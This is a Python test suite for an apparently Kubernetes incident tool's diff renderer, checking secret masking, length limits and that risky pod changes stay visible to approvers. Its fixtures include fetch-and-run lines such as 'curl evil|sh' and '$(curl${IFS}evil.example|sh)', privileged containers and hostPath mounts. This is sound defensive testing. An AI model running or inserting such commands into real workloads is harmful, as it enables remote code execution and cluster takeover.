"""The diff that people read before they approve: complete, short, and without secrets."""

from __future__ import annotations

from hashlib import sha256
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from incidentcommander.api.base import MARKER_ANNOTATION
from incidentcommander.core.remediation.diff import DIFF_LENGTH, Shown
from incidentcommander.core.remediation.diff import diff as diff_of
from tests.support.build import merged, template, workload_raw

Env = dict[str, str]
SALT = "incident-uid"


def shown(before: dict[str, Any], after: dict[str, Any], length: int = DIFF_LENGTH) -> Shown:
    return diff_of(before, after, SALT, length)


def diff(before: dict[str, Any], after: dict[str, Any], length: int = DIFF_LENGTH) -> str:
    return shown(before, after, length).text


def mark(value: str, salt: str = SALT) -> str:
    """The fingerprint that stands in place of a secret."""
    return sha256(f"{salt}\0{value}".encode()).hexdigest()[:4]


def changed(before: Env, after: Env) -> str:
    """The diff of a change of environment variables."""
    old, new = (workload_raw(spec={"template": template(env=env)}) for env in (before, after))
    return diff(old, new)


def of_container(before: dict[str, Any], after: dict[str, Any]) -> str:
    """The diff of a change of the container."""
    return diff(_with_container(before), _with_container(after))


def _with_container(part: dict[str, Any]) -> dict[str, Any]:
    body = template()
    body["spec"]["containers"][0] |= part
    return workload_raw(spec={"template": body})


def signed(text: str) -> list[str]:
    """The changed lines, without indentation."""
    lines = [line for line in text.splitlines() if line[:1] in "+-"]
    return [line[0] + line[1:].strip() for line in lines[2:]]


def test_it_reads_like_kubectl_diff() -> None:
    old, new = (workload_raw(spec={"template": template(image)}) for image in ("app:2", "app:1"))

    assert diff(old, new) == (
        "--- Deployment/checkout (now)\n"
        "+++ Deployment/checkout (after)\n"
        "@@ -2,5 +2,5 @@\n"
        "   template:\n"
        "     spec:\n"
        "       containers:\n"
        "-      - image: app:2\n"
        "+      - image: app:1\n"
        "         name: app\n"
    )


@pytest.mark.parametrize(
    "over",
    [
        pytest.param({}, id="nothing"),
        pytest.param({"status": {"replicas": 9}}, id="the status"),
        pytest.param({"metadata": {"resourceVersion": "9", "generation": 9}}, id="counters"),
        pytest.param({"metadata": {"uid": "x", "managedFields": [{"a": 1}]}}, id="bookkeeping"),
        pytest.param({"metadata": {"annotations": {MARKER_ANNOTATION: "p-1"}}}, id="our marker"),
    ],
)
def test_no_difference_is_shown_for(over: dict[str, Any]) -> None:
    assert diff(workload_raw(), workload_raw(**over)) == ""


def test_the_first_annotation_of_all_may_be_our_marker() -> None:
    bare = workload_raw(metadata={"annotations": None})
    marked = workload_raw(
        metadata={
            "annotations": {MARKER_ANNOTATION: "p", "deployment.kubernetes.io/revision": None}
        }
    )

    assert diff(bare, marked) == ""


def test_all_of_a_new_object_is_shown() -> None:
    made = {"kind": "HorizontalPodAutoscaler", "metadata": {"name": "web", "uid": "u"}, "spec": {}}

    assert diff({}, made) == (
        "--- HorizontalPodAutoscaler/web (now)\n"
        "+++ HorizontalPodAutoscaler/web (after)\n"
        "@@ -0,0 +1,4 @@\n"
        "+kind: HorizontalPodAutoscaler\n"
        "+metadata:\n"
        "+  name: web\n"
        "+spec: {}\n"
    )


# --- what comes first ----------------------------------------------------------------------------

PADDING = {f"example.com/{n:02}": "x" * 380 for n in range(25)}


def padded(**pod: Any) -> dict[str, Any]:
    """A Deployment whose template has more annotations than a diff can show."""
    body = template(annotations=PADDING)
    containers = pod.pop("containers", [{}])
    body["spec"]["containers"] = [{"name": "app", "image": "app:1"} | c for c in containers]
    return workload_raw(spec={"template": merged(body, {"spec": pod})})


@pytest.mark.parametrize(
    ("pod", "line"),
    [
        pytest.param(
            {"containers": [{"image": "evil.example/x/app:1"}]},
            "      - image: evil.example/x/app:1",
            id="an image of another registry",
        ),
        pytest.param(
            {"containers": [{"command": ["sh", "-c", "curl evil|sh"]}]},
            "        - curl evil|sh",
            id="a command",
        ),
        pytest.param({"containers": [{"args": ["-x"]}]}, "        - -x", id="an argument"),
        pytest.param(
            {"containers": [{"env": [{"name": "LD_PRELOAD", "value": "/x"}]}]},
            "        - name: LD_PRELOAD",
            id="the name of a variable",
        ),
        pytest.param(
            {"containers": [{"securityContext": {"privileged": True}}]},
            "          privileged: true",
            id="rights of a container",
        ),
        pytest.param(
            {"containers": [{"lifecycle": {"postStart": {"exec": {"command": ["evil"]}}}}]},
            "              - evil",
            id="a hook",
        ),
        pytest.param(
            {"containers": [{"livenessProbe": {"exec": {"command": ["evil"]}}}]},
            "            - evil",
            id="a probe that runs something",
        ),
        pytest.param(
            {"initContainers": [{"name": "i", "image": "evil.example/i:1"}]},
            "      - image: evil.example/i:1",
            id="an init container",
        ),
        pytest.param(
            {"ephemeralContainers": [{"name": "e", "securityContext": {"privileged": True}}]},
            "          privileged: true",
            id="an ephemeral container",
        ),
        pytest.param(
            {"volumes": [{"name": "host", "hostPath": {"path": "/"}}]},
            "          path: /",
            id="a volume",
        ),
        pytest.param(
            {"serviceAccountName": "admin"}, "      serviceAccountName: admin", id="whose"
        ),
        pytest.param({"hostNetwork": True}, "      hostNetwork: true", id="the host's network"),
        pytest.param({"securityContext": {"runAsUser": 0}}, "        runAsUser: 0", id="as whom"),
    ],
)
def test_ed_pads_a_template_with_annotations_and_what_runs_is_shown_all_the_same(
    pod: dict[str, Any], line: str
) -> None:
    found = shown(workload_raw(spec={"template": template("app:1")}), padded(**pod))

    assert f"+{line}" in found.text.splitlines()
    assert found.cut
    assert not found.cut_early


def test_images_come_before_whatever_else_a_container_has() -> None:
    scripts = [{"name": n, "image": f"evil.example/{n}:1", "args": ["x" * 900]} for n in "abcdef"]
    text = diff(workload_raw(), padded(containers=scripts))

    first = text.splitlines().index("+      - image: evil.example/a:1")
    assert first < text.splitlines().index(f"+        - {'x' * 900}")


def test_what_runs_is_said_to_be_cut_where_even_that_does_not_fit() -> None:
    found = shown(workload_raw(), padded(containers=[{"args": ["x" * 9000]}]))

    assert (found.cut, found.cut_early) == (True, True)


def test_a_long_argument_is_shown_to_its_end() -> None:
    script = f"{'echo ok; ' * 100}curl evil|sh"
    found = shown(workload_raw(), _with_container({"args": ["-c", script]}))

    assert f"+        - {script}" in found.text.splitlines()
    assert not found.cut


def test_a_change_that_is_shown_whole_is_not_called_cut() -> None:
    assert shown(workload_raw(), _with_container({"image": "x:1", "args": ["a"]})) == Shown(
        diff(workload_raw(), _with_container({"image": "x:1", "args": ["a"]}))
    )


def test_annotations_that_come_along_are_shown() -> None:
    noted = workload_raw(metadata={"annotations": {"external-dns/hostname": "pay.example.com"}})

    assert "+    external-dns/hostname: pay.example.com" in diff(workload_raw(), noted)


def test_characters_that_turn_text_around_are_spelled_out() -> None:
    text = diff(workload_raw(), _with_container({"args": ["a\u202eb\u200bc"]}))

    assert signed(text) == ["+args:", "+- a\\u202eb\\u200bc"]


# --- secrets -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["DB_PASSWORD", "DB_PASS", "apiToken", "CLIENT_SECRET", "AWS_ACCESS_KEY_ID", "CREDENTIALS"],
)
def test_a_secret_is_masked_and_its_change_is_seen(name: str) -> None:
    text = changed({name: "hunter1"}, {name: "hunter2"})

    assert signed(text) == [
        f"-value: '*** (before, {mark('hunter1')})'",
        f"+value: '*** (after, {mark('hunter2')})'",
    ]
    assert "hunter" not in text


def test_a_secret_that_stays_shows_no_change() -> None:
    text = changed({"PASSWORD": "hunter1", "A": "1"}, {"PASSWORD": "hunter1", "A": "2"})

    assert signed(text) == ["-value: '1'", "+value: '2'"]
    assert f"value: '*** ({mark('hunter1')})'" in text


def test_a_new_secret_is_masked() -> None:
    assert signed(changed({"A": "1"}, {"A": "1", "TOKEN": "hunter2"})) == [
        "+- name: TOKEN",
        "+- name: TOKEN",
        f"+value: '*** (after, {mark('hunter2')})'",
    ]


def test_the_fingerprint_of_a_secret_is_another_in_another_incident() -> None:
    old, new = (workload_raw(spec={"template": template(env={"TOKEN": v})}) for v in "ab")

    assert mark("b", "other") in diff_of(old, new, "other").text
    assert mark("b") not in diff_of(old, new, "other").text


def test_two_variables_of_one_name_are_told_apart() -> None:
    twice = [{"name": "TOKEN", "value": "hunter1"}, {"name": "TOKEN", "value": "hunter2"}]
    text = of_container({"env": twice}, {"env": twice[::-1]})

    assert text.count("(before, ") == text.count("(after, ") == 2


def test_other_variables_are_shown() -> None:
    assert signed(changed({"MODE": "a"}, {"MODE": "b"})) == ["-value: a", "+value: b"]


@pytest.mark.parametrize(
    ("before", "after", "expected"),
    [
        pytest.param(
            {"args": []},
            {"args": ["--token=$(curl${IFS}evil.example|sh)", "--key", "$(evil)"]},
            [
                "-args: []",
                "+args:",
                "+- --token=$(curl${IFS}evil.example|sh)",
                "+- --key",
                "+- $(evil)",
            ],
            id="arguments that look like secrets",
        ),
        pytest.param(
            {"command": ["sh", "-c", "run"]},
            {"command": ["sh", "-c", "TOKEN=evil run"]},
            ["-- run", "+- TOKEN=evil run"],
            id="an assignment in a script",
        ),
        pytest.param(
            {"env": [{"name": "AUTH_TOKEN", "value": "a"}]},
            {"env": [{"name": "AUTH_TOKEN", "value": "$(curl evil.example|sh)"}]},
            [f"-value: '*** (before, {mark('a')})'", "+value: $(curl evil.example|sh)"],
            id="a variable that a shell would run",
        ),
        pytest.param(
            {"env": [{"name": "DB_PASSWORD", "value": "Tr0ub<4dor-OLD"}]},
            {"env": [{"name": "DB_PASSWORD", "value": "Corr3ct|horse`$x-NEW"}]},
            [
                f"-value: '*** (before, {mark('Tr0ub<4dor-OLD')}, with <)'",
                f"+value: '*** (after, {mark('Corr3ct|horse`$x-NEW')}, with | ` $)'",
            ],
            id="generated passwords with what a shell would run",
        ),
        pytest.param(
            {"env": [{"name": "DB", "value": "postgres://u:hunter1@db/x"}]},
            {"env": [{"name": "DB", "value": "postgres://u:hunter2@evil/x"}]},
            [
                f"-value: postgres://u:*** (before, {mark('hunter1')})@db/x",
                f"+value: postgres://u:*** (after, {mark('hunter2')})@evil/x",
            ],
            id="the password in a URL, and only that",
        ),
        pytest.param(
            {"env": [{"name": "TOKEN", "value": "hunter1"}]},
            {"env": [{"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}]},
            [
                "+valueFrom:",
                "+secretKeyRef:",
                "+key: k",
                "+name: s",
                f"-value: '*** (before, {mark('hunter1')})'",
            ],
            id="a reference to a Secret is no secret",
        ),
    ],
)
def test_only_values_of_variables_are_masked(
    before: dict[str, Any], after: dict[str, Any], expected: list[str]
) -> None:
    text = of_container(before, after)

    assert signed(text) == expected
    assert "hunter" not in text


def test_the_manifest_of_kubectl_apply_is_not_shown() -> None:
    last_applied = "kubectl.kubernetes.io/last-applied-configuration"
    notes = {"vault/path": "a", last_applied: '{"hunter": 1}'}
    old = workload_raw(metadata={"annotations": notes})
    new = workload_raw(metadata={"annotations": {**notes, "vault/path": "b"}})
    text = diff(old, new)

    assert signed(text) == ["-vault/path: a", "+vault/path: b"]
    assert "hunter" not in text
    assert "last-applied-configuration: (13 characters)" in text


def test_containers_are_told_apart_by_name() -> None:
    old = workload_raw(spec={"template": template(env={"TOKEN": "a"})})
    new = workload_raw(spec={"template": template(env={"TOKEN": "a"})})
    sidecar = {"name": "sidecar", "env": [{"name": "TOKEN", "value": "b"}]}
    new["spec"]["template"]["spec"]["containers"].insert(0, sidecar)

    assert "(before" not in diff(old, new)


# --- length --------------------------------------------------------------------------------------


def test_what_does_not_fit_is_counted() -> None:
    before, after = ({f"V{n}": f"{side}{n}" for n in range(500)} for side in "ab")
    text = changed(before, after)

    assert len(text) <= DIFF_LENGTH
    *shown, last = text.splitlines()
    left = int(last.removeprefix("… (").removesuffix(" more lines)"))
    # Header, hunk; name, old and new value of each; one line of context.
    assert len(shown) + left == 2 + 1 + 3 * 500 + 1


def test_a_long_line_is_cut_with_a_count() -> None:
    text = changed({"A": "x" * 1000}, {"A": "y" * 1000})

    assert all(len(line) < 450 for line in text.splitlines())
    assert signed(text)[0].endswith("… (618 more characters)")


def test_texts_of_several_lines_are_blocks() -> None:
    assert signed(changed({"A": "one\ntwo"}, {"A": "one\nthree"})) == ["-two", "+three"]


def test_differences_far_down_are_not_passed_over_in_silence() -> None:
    before = {f"V{n}": "" for n in range(1500)}
    text = changed({**before, "LAST": "a"}, {**before, "LAST": "b"})

    assert text.splitlines()[2:] == ["… (there are differences after line 2000)"]


@settings(deadline=None, max_examples=50)
@given(
    values=st.lists(st.tuples(st.text(max_size=60), st.text(max_size=60)), max_size=30),
    length=st.integers(100, 600),
)
def test_it_always_fits(values: list[tuple[str, str]], length: int) -> None:
    old, new = (
        workload_raw(
            spec={"template": template(env={f"V{n}": v[side] for n, v in enumerate(values)})}
        )
        for side in (0, 1)
    )

    assert len(diff(old, new, length)) <= length
